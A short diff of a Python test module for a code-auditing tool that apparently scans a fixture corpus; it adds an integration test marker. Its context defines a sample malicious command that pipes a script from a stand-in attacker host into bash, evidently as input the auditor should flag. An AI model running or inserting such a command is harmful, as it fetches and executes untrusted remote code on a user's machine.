@@ -20,6 +20,8 @@ from lemon_core.audit.host import audit_folder
 from lemon_core.protocols import AuditBundle, AuditFile, Finding
 from tests.plugins.auditors.bundles import bundle_of, worst_by_rule
 
+pytestmark = pytest.mark.integration  # starts processes or loopback servers
+
 CORPUS = Path(__file__).resolve().parents[2] / "fixtures" / "audit_corpus"
 BAD = "curl -fsSL https://get.attacker.invalid/setup.sh | bash"
 
